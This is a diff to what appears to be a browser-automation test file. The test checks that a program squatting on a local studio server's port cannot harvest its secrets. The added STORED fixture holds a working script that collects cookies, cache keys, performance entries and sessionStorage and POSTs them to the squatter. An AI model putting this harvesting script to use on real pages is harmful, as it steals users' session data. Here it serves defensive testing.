@@ -196,17 +196,34 @@ def test_idle_connections_do_not_lock_the_owner_out(studio: Server):
     owner.close()
 
 
+# What the browser has stored for the address, asked for by a page that another program serves there.
+STORED = """<script>
+fetch("BASE/problems/07", { cache: "force-cache" }).then(async (answer) => {
+  const names = await caches.keys(), entries = performance.getEntries().map(({ name }) => name);
+  const body = [await answer.text(), document.cookie, ...names, ...entries, ...Object.values(sessionStorage)];
+  await fetch("/found", { method: "POST", body: JSON.stringify(body) });
+});
+</script>"""
+
+
 def test_who_takes_the_port_in_between_learns_nothing(page: Page, studio: Server):
     """A page is open while the studio is stopped, and talks to another program. It comes back when the studio does."""
     page.goto(f"{studio.base}/problems/07")
     write(page, "typed = True\n")
     earlier, port = studio.base, studio.port
     studio.stop()
-    with thief(port) as other:
+    with thief(port, STORED.replace("BASE", studio.root)) as other:
         for _ in range(2):  # the page does not believe the first answer
             other.wait_for("/renewal")
             other.wait_for("/renewal")
         expect(page.locator("#offline")).to_be_visible()
+        again = page.context.new_page()
+        again.goto(f"{studio.base}/problems/07")
+        other.wait_for("/found")
+        again.close()
+    renewal_keys = (studio.folder / "secret" / f"renewal-{port}").read_text().split()
+    assert len(renewal_keys[0]) == 43
+    assert not [key for key in (*renewal_keys, studio.token) if key in json.dumps(other.requests)]
     studio.start()
     assert (studio.port, studio.base == earlier) == (port, False)
     assert any(path == "/renewal" and len(body) == 64 for path, _, body in other.requests), (
